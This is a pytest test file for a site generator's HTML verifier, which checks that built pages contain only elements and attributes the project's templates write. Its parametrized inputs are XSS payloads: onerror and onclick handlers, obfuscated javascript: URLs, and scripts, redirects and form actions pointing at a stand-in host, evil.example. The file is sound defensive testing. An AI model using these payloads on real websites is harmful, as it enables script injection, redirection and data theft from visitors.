"""The second gate: what no template puts on a page is found there, wherever it comes from."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from generator.verify.dom import read_page
from generator.verify.shapes import ADDED, ELEMENT, NO_PAGE, foreign, shapes_of
from tests.project import ROOT

SAFE = '<p class="a"><a href="../quotes/" title="x">words</a> 5 &lt; 6 &amp;lt;img onerror=x&gt;</p>'


def _page(content: str, frame: str = "") -> str:
    head = f"<head><title>T</title>{frame}</head>"
    body = f'<body><article class="md-content__inner">{content}</article></body>'
    return f'<!doctype html><html lang="en">{head}{body}</html>'


def _codes(content: str, *, made: str | None = None, frame: str = "", first: str = "") -> list[str]:
    first_page = read_page(_page(SAFE, first)).framed if first else NO_PAGE
    generated = read_page(content if made is None else made).framed.content
    found = foreign(lambda: generated, read_page(_page(content, frame)).framed, first_page)
    return [code for code, _ in found]


def test_what_templates_write_passes() -> None:
    assert _codes(SAFE) == []


@pytest.mark.parametrize(
    "attack",
    [
        "<img src=x onerror=alert(1)>",
        "<b onclick=alert(1)>x</b>",
        "<script>alert(1)</script>",
        "<script><!--\nalert(1)</script>",
        "<script src=//evil.example/x></script>",
        '<script src="https://evil.example/x"></script>',
        "<svg onload=alert(1)></svg>",
        "<iframe srcdoc='<p>'></iframe>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<a href="jav&#x0A;ascript:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<a href="VBScript:x">x</a>',
        '<p style="background:url(//evil.example)">x</p>',
        "<style>p{}</style>",
        "<base href=//evil.example/>",
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        '<form action="//evil.example"><input name=a></form>',
        "<button formaction=//evil.example>x</button>",
        "<object data=x></object>",
        "<math><mtext></mtext></math>",
        "<p contenteditable>x</p>",
        '<td style="position:fixed">x</td>',
        "<p/onclick=alert(1)//>x</p>",
    ],
)
def test_what_none_writes_is_an_error(attack: str) -> None:
    table = f"<table><tr>{attack}</tr></table>" if attack.startswith("<td") else attack
    assert ELEMENT in _codes(f"{SAFE}{table}")


def test_an_attack_that_stands_as_text_is_none() -> None:
    assert _codes('<p>&lt;img src=x onerror=alert(1)&gt; <code>href="javascript:x"</code></p>') == []


def test_what_only_the_built_page_has_is_told_and_left_to_the_owner() -> None:
    assert set(_codes(f"{SAFE}<video></video>", made=SAFE)) == {ADDED}


def test_what_markdown_makes_of_its_own_signs_is_nobodys_doing() -> None:
    table = '<table><tr><td style="text-align: right;">5</td></tr></table>'
    assert _codes(f"{SAFE}{table}", made=f"{SAFE}\n| 5 |") == []
    assert set(_codes(f"{SAFE}{table}")) == {ELEMENT}


def test_a_title_that_breaks_out_of_the_head_is_an_error() -> None:
    assert _codes(SAFE, frame='<meta name="description" content="x"><img src="x" onerror="alert(1)">') != []
    assert _codes(SAFE, frame='<meta http-equiv="refresh" content="0;url=//evil.example">') == [ELEMENT]


def test_the_frame_may_hold_what_the_first_page_holds() -> None:
    owners = '<script src="https://count.example/a.js" data-site="x"></script><script>start()</script>'
    assert _codes(SAFE, frame=owners, first=owners) == []
    assert _codes(SAFE, frame=owners, first="<meta charset=utf-8>") == [ELEMENT, ELEMENT]


def test_the_owners_note_holds_what_the_owner_likes() -> None:
    note = '<section class="owner"><img src="https://a.example/x.png" alt=""></section>'
    assert _codes(SAFE + note) == []
    assert _codes(SAFE + note + note) != []


_EXPRESSION = re.compile(r"\{%.*?%\}|<#.*?#>|\{\{.*?\}\}", re.DOTALL)
_ANYWHERE = re.compile(r"class|id|lang|title|hidden|tabindex|role|data-.*|aria-.*")


def _written() -> set[str]:
    """What templates write, in the form of `Shapes.elements`, without attributes that any element may have."""
    templates = "".join(path.read_text("utf-8") for path in sorted((ROOT / "generator/templates").rglob("*.jinja")))
    written = set()
    for tag, rest in re.findall(r"<([a-z][a-z0-9]*)\b([^<>]*)>", _EXPRESSION.sub(" ", templates)):
        written.add(tag)
        written |= {f"{tag} {name}" for name in re.findall(r"\s([\w:-]+)", re.sub(r'="[^"]*"', "", rest))}
    return {what for what in written if not _ANYWHERE.fullmatch(what.partition(" ")[2])}


def test_the_list_is_what_templates_write() -> None:
    """Whatever is listed stands in a template or in a program file; what a template writes is all listed."""
    lines = (ROOT / "generator/verify/data/content.txt").read_text("utf-8").splitlines()
    rows = [line.split() for line in lines if not line.startswith(("#", "*"))]
    listed = {f"{row[0]} {name}".strip() for row in rows for name in ("", *row[1:])}
    assert _written() <= listed, _written() - listed
    programs = "".join(path.read_text("utf-8") for path in _programs())
    others = {name for what in listed - _written() for name in what.split()}
    assert {name for name in others if name not in programs.replace("_", "-")} == set()


def _programs() -> list[Path]:
    folders = ("charts", "show", "site", "pages")
    pages = (ROOT / "docs" / "about").glob("*.md")
    return sorted([*pages, *(path for folder in folders for path in (ROOT / "generator" / folder).rglob("*.py"))])


def test_shapes_are_those_a_browser_makes() -> None:
    assert shapes_of('<p title="a > b" id="<i>">x</p>').elements == {"p", "p title", "p id"}
